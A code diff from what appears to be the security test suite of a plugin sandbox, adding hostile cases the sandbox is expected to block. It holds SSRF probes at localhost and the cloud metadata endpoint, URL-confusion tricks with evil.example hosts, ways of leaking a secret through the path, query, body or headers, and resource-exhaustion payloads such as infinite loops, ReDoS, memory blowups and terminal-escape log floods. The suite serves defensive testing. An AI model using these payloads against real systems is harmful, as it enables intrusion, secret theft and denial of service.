@@ -5,9 +5,7 @@ import { poll } from '../../poll.ts';
 import { authority } from './authority.ts';
 import { ownPrefix, packageOf, type Forged, type Hostile, type Scene } from './case.ts';
 import { escapes } from './escape.ts';
-import { exhaustions } from './exhaustion.ts';
 import { gotThrough, blocked, judgeRuns, notJudged, unlessTouched, type AttackVerdict } from './judge.ts';
-import { outside } from './outside.ts';
 import { forgedCalls } from './forged-calls.ts';
 import { callersAndReplays } from './scenes.ts';
 import {
@@ -20,6 +18,127 @@ import {
   type StageOptions,
 } from './stage.ts';
 import { supplyChain } from './supply-chain.ts';
+
+// Attacks 29 to 35: to reach other servers, this one, and secrets. None of them needs a receiver: what is held is refused before
+// anything is sent, and any other answer, also that nobody is there, means that it got past the door.
+
+const at = 'https://receiver.example';
+const net = [{ origin: at, methods: ['POST' as const], path: '/v1/', why: 'an attack of the suite' }];
+
+/** Asks each and finds what is not refused at the door. */
+const ask = `const ask = async (...asked) => {
+  try { await fetch(...asked); found.push('answered ' + String(asked[0]).slice(0, 60)); }
+  catch (error) { if (error.code !== 'egress_denied') found.push(error.code + ' ' + String(asked[0]).slice(0, 60)); }
+};`;
+const post = `{ method: 'POST', body: 'x' }`;
+
+const outside: readonly Hostile[] = [
+  {
+    group: 29,
+    name: 'names-beside-the-named',
+    ends: 'harmless',
+    manifest: { net },
+    body: `${ask}
+      for (const url of ['https://receiver.example.evil.example/v1/', 'https://user@receiver.example/v1/', 'https://receiver.example@evil.example/v1/',
+        'https://receiver.example:444/v1/', 'http://receiver.example/v1/', 'https://receiver.example/v2/', 'https://receiver.example/v1/../v2/'])
+        await ask(url, ${post});
+      await ask('${at}/v1/');`,
+  },
+  {
+    group: 32,
+    name: 'headers-that-route',
+    ends: 'harmless',
+    manifest: { net },
+    body: `${ask}
+      for (const header of ['host', 'Transfer-Encoding', 'content-length', 'Connection', 'proxy-authorization'])
+        await ask('${at}/v1/', { ...${post}, headers: { [header]: 'receiver.example' } });`,
+  },
+  {
+    group: 34,
+    name: 'fetch-without-net',
+    ends: 'harmless',
+    body: `${ask}
+      for (const url of ['http://127.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:8080/api/v1/me',
+        'http://2130706433/', 'https://receiver.example/'])
+        await ask(url);`,
+  },
+  {
+    group: 35,
+    name: 'secrets-elsewhere',
+    ends: 'harmless',
+    manifest: { net, secrets: { ATTACK_KEY: { hosts: [at], header: 'Authorization', format: 'Bearer {}' } } },
+    body: `${ask}
+      const ref = ctx.secrets.ref('ATTACK_KEY');
+      await ask('${at}/v1/' + ref, ${post});
+      await ask('${at}/v1/?key=' + ref, ${post});
+      await ask('${at}/v1/', { method: 'POST', body: 'key=' + ref });
+      await ask('${at}/v1/', { ...${post}, headers: { 'x-key': ref } });
+      await ask('${at}/v1/', { ...${post}, headers: { authorization: 'Basic ' + ref } });
+      try { if (ctx.secrets.ref('OTHER_KEY')) found.push('a secret that was not declared'); } catch {}`,
+  },
+];
+
+// Attacks 20 to 28: until nothing is left for others. Those of a lost process, of 27 and 28, are made to the server by tests alone.
+
+const exhaustions: readonly Hostile[] = [
+  // It takes as long as a run may, beside which the others are made.
+  { group: 21, name: 'never-settles', ends: 'stopped', code: 'wall', body: `await new Promise(() => {});` },
+  { group: 20, name: 'loop', ends: 'stopped', code: 'cpu', body: `for (;;);` },
+  {
+    group: 20,
+    name: 'loop-after-await',
+    ends: 'stopped',
+    code: 'cpu',
+    body: `await ctx.issues.get(event.data.id); for (;;);`,
+  },
+  {
+    group: 20,
+    name: 'loop-in-getter',
+    ends: 'stopped',
+    body: `await ctx.issues.update(event.data.id, { get priority() { for (;;); } });`,
+  },
+  { group: 20, name: 'loop-at-start', ends: 'stopped', prelude: `for (;;);`, body: `` },
+  {
+    group: 22,
+    name: 'microtasks',
+    ends: 'stopped',
+    body: `const again = () => Promise.resolve().then(again); await again();`,
+  },
+  { group: 23, name: 'regex', ends: 'stopped', code: 'cpu', body: `/^(a+)+$/.test('a'.repeat(40) + '!');` },
+  { group: 24, name: 'heap', ends: 'stopped', body: `const all = []; for (;;) all.push({ a: [1, 2, 3] });` },
+  {
+    group: 24,
+    name: 'typed-arrays',
+    ends: 'stopped',
+    body: `const all = []; for (;;) all.push(new Uint8Array(1e6).fill(1));`,
+  },
+  {
+    group: 24,
+    name: 'ropes',
+    ends: 'stopped',
+    body: `let text = 'x'; for (;;) { text += text; if (text.length > 1e8) text = text.slice(1).split('').join('-'); }`,
+  },
+  { group: 24, name: 'spread', ends: 'stopped', body: `let all = [1]; for (;;) all = [...all, ...all];` },
+  {
+    group: 25,
+    name: 'a-million-calls',
+    ends: 'stopped',
+    body: `const all = []; for (let i = 0; i < 1e6; i++) all.push(ctx.issues.get(event.data.id)); await Promise.all(all);`,
+  },
+  {
+    group: 25,
+    name: 'calls-without-end',
+    ends: 'stopped',
+    code: 'call_budget',
+    body: `for (;;) await ctx.kv.get('x');`,
+  },
+  {
+    group: 26,
+    name: 'log-flood',
+    ends: 'either',
+    body: `for (let i = 0; i < 2000; i++) ctx.log.info('\\u001b[2J\\u001b]0;owned\\u0007 ' + 'x'.repeat(200));`,
+  },
+];
 
 /** The longest lasting first, so that the others are made beside it. */
 export const hostiles: readonly Hostile[] = [...exhaustions, ...escapes, ...outside, ...authority];
